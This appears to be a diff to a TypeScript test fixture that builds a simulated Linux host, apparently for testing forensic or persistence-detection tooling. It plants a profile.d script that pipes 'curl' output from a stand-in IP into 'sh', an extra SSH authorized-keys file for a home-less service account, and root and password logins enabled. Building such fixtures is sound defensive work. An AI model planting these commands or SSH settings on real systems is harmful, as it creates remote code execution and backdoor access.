@@ -110,6 +110,9 @@ export async function buildHostFiles(root: string, layout: HostLayout): Promise<
   }
   await put(root, 'etc/profile', 'for i in /etc/profile.d/*.sh; do . "$i"; done\n')
   await put(root, 'etc/profile.d/zz-update.sh', 'curl -s http://198.51.100.9/x | sh\n')
+  // Keys also in a shared folder, as sshd_config says (svc has no home: its key file is still read).
+  await put(root, 'etc/ssh/sshd_config', 'Include /etc/ssh/sshd_config.d/*.conf\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\nMatch User backup\n  AuthorizedKeysFile /srv/backup/keys\n')
+  await put(root, 'etc/ssh/keys/svc', `ssh-ed25519 ${keyBlob(4)} svc@deploy\n`)
   await put(root, `etc/ssh/sshd_config.d/${layout === 'rhel' ? '50-redhat.conf' : '50-cloud-init.conf'}`, '# added\nPasswordAuthentication yes\nPermitRootLogin yes\n')
 
   // histories: root's bash with HISTTIMEFORMAT stamps, alice's without, bob's zsh extended history
